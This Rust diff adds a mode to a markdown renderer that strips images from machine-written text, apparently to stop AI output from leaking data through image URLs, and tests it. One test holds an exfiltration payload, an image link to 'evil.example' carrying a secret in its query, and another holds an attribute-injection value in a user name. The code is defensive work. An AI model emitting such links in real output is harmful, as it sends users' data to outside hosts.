@@ -82,13 +82,28 @@ pub async fn render(markdown: &str) -> Result<String, Problem> {
     render_with(markdown, BTreeMap::new()).await
 }
 
+/// Renders what a machine has written: the same without pictures, whose addresses could carry away what the machine was
+/// shown as soon as somebody looks.
+pub async fn render_machine(markdown: &str) -> Result<String, Problem> {
+    render_off(markdown, BTreeMap::new(), false).await
+}
+
 /// The same with the names of the people whom the text mentions ([`super::mention`]); others are not marked.
 pub async fn render_with(markdown: &str, names: BTreeMap<UserId, String>) -> Result<String, Problem> {
+    render_off(markdown, names, true).await
+}
+
+async fn render_off(
+    markdown: &str,
+    names: BTreeMap<UserId, String>,
+    pictures: bool,
+) -> Result<String, Problem> {
     if markdown.len() <= LONG {
-        return Ok(render_now(markdown, &names));
+        return Ok(render_now(markdown, &names, pictures));
     }
     let markdown = markdown.to_owned();
-    tokio::task::spawn_blocking(move || render_now(&markdown, &names)).await.map_err(Problem::internal)
+    let rendered = tokio::task::spawn_blocking(move || render_now(&markdown, &names, pictures));
+    rendered.await.map_err(Problem::internal)
 }
 
 /// What of markdown is known.
@@ -102,7 +117,7 @@ pub(super) fn options() -> comrak::Options<'static> {
     options
 }
 
-fn render_now(markdown: &str, names: &BTreeMap<UserId, String>) -> String {
+fn render_now(markdown: &str, names: &BTreeMap<UserId, String>, pictures: bool) -> String {
     let html = if names.is_empty() {
         comrak::markdown_to_html(markdown, &options())
     } else {
@@ -112,7 +127,11 @@ fn render_now(markdown: &str, names: &BTreeMap<UserId, String>) -> String {
         // No person writes so, and the time to clean it grows with the square of the depth.
         return format!("<p>{}</p>\n", ammonia::clean_text(markdown));
     }
-    ammonia::Builder::default()
+    let mut cleaner = ammonia::Builder::default();
+    if !pictures {
+        cleaner.rm_tags(["img"]);
+    }
+    cleaner
         .add_tags(["input"])
         .add_tag_attributes("input", ["type", "checked", "disabled"])
         .add_tag_attribute_values("input", "type", ["checkbox"])
@@ -135,7 +154,7 @@ mod tests {
     use super::*;
 
     fn html(markdown: &str) -> String {
-        render_now(markdown, &BTreeMap::new())
+        render_now(markdown, &BTreeMap::new(), true)
     }
 
     #[test]
@@ -158,11 +177,22 @@ mod tests {
     }
 
     #[test]
+    fn machines_show_no_pictures() {
+        let markdown = "A ![b](https://evil.example/?q=secret) [c](https://fine.example)";
+        assert!(html(markdown).contains("<img"));
+        let html = render_now(markdown, &BTreeMap::new(), false);
+        assert!(
+            !html.contains("<img") && !html.contains("secret") && html.contains("fine.example"),
+            "{html}"
+        );
+    }
+
+    #[test]
     fn whoever_is_mentioned_is_called_by_their_own_name() {
         let names: BTreeMap<UserId, String> = [(7, "Bo <b>Ek</b>"), (8, "\" onclick=x")]
             .map(|(id, name)| (UserId::from_db(id), name.to_owned()))
             .into();
-        let html = |markdown: &str| render_now(markdown, &names);
+        let html = |markdown: &str| render_now(markdown, &names, true);
         assert_eq!(
             html("Hi @[Ada](user:7)!"),
             "<p>Hi <span class=\"mention\" data-user-id=\"7\">@Bo &lt;b&gt;Ek&lt;/b&gt;</span>!</p>\n"
